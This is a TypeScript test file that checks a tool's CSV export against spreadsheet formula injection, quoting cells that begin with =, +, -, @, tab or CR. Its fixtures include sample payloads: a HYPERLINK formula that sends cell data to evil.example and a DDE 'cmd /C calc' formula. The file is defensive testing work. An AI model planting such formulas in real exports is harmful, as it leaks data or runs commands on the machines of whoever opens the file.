// CSV formula injection (OWASP): model replies are untrusted, and a CSV cell starting with = + - @,
// tab or CR runs as a formula when the export is opened in a spreadsheet (issue 8 follow-up).
import { parse } from 'csv-parse/sync';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { csvLine } from '../../src/export.js';
import type { ProbeRecord } from '../../src/probes/schema.js';
import { runCli } from '../helpers/cli.js';
import { tempDir } from '../helpers/tmp.js';
import { buildStore } from '../metrics/store-builder.js';

/** Each reply, and how its `text` cell must read back: neutralised with a leading ' or as it is. */
const REPLIES: [reply: string, cell: string][] = [
  ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
  ['+1+cmd|\' /C calc\'!A0', `'+1+cmd|' /C calc'!A0`],
  ['-2+3', `'-2+3`],
  ['@SUM(1,2)', `'@SUM(1,2)`],
  ['\t=1+1', `'\t=1+1`],
  ['\r=1+1', `'\r=1+1`],
  // Starts with a quote: a spreadsheet reads it as text already; the quotes survive RFC 4180 quoting.
  ['"=1+1" is what you would type', '"=1+1" is what you would type'],
  // Embedded newlines: neutralised when it starts like a formula, and still one quoted cell.
  ['=1+1\nsecond line\r\nthird, with a comma', `'=1+1\nsecond line\r\nthird, with a comma`],
  ['first line\n=1+1 on the second', 'first line\n=1+1 on the second'],
  ['A plain answer: Canberra.', 'A plain answer: Canberra.'],
];

function probe(i: number): ProbeRecord {
  return { id: `p${i}`, category: 'factuality', prompt: `Question ${i}?`, expect: { behavior: 'answer', answer: 'Canberra', match: 'contains' } };
}

describe('export --format csv neutralises formulas', () => {
  it('every formula-like text cell gets a leading quote; the rest read back exactly', () => {
    const root = tempDir('stoppoint-csv-');
    const records = REPLIES.map((_, i) => probe(i));
    const plan = { name: 'inject', probes: ['core'], endpoint: { base_url: 'http://127.0.0.1:9/v1' }, candidates: [{ name: 'cand', model: 'm' }] };
    const { db } = buildStore(records, plan, { cand: Object.fromEntries(REPLIES.map(([reply], i) => [`p${i}`, [reply]])) }, join(root, 'runs/stoppoint.sqlite'));
    db.close();

    const r = runCli(['export', 'inject', '--format', 'csv', '-o', 'out.csv'], root);
    expect(r.code, r.stderr).toBe(0);
    const csv = readFileSync(join(root, 'out.csv'), 'utf8');
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows.map((row) => [row.probe_id, row.text])).toEqual(REPLIES.map(([, cell], i) => [`p${i}`, cell]));
    // No cell of the file starts like a formula, wherever it sits in a line.
    const cells = parse(csv) as string[][];
    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    // JSONL is not for spreadsheets: it keeps every text exactly as stored.
    const jsonl = runCli(['export', 'inject'], root);
    expect(jsonl.code, jsonl.stderr).toBe(0);
    const texts = jsonl.stdout.trimEnd().split('\n').map((l) => (JSON.parse(l) as { text: string }).text);
    expect(texts).toEqual(REPLIES.map(([reply]) => reply));
  });

  it('numbers stay numbers, and names and messages are text like any other', () => {
    expect(csvLine([-1, 0.5, '-1', '@cand', '=x', null])).toBe(`-1,0.5,'-1,'@cand,'=x,\r\n`);
  });

  it('the help says so', () => {
    const r = runCli(['export', '--help'], tempDir());
    expect(r.code).toBe(0);
    expect(r.stdout.replace(/\s+/g, ' ')).toContain("a text cell starting with =, +, -, @, tab or CR (a formula to Excel, LibreOffice or Sheets) gets a leading '");
  });
});
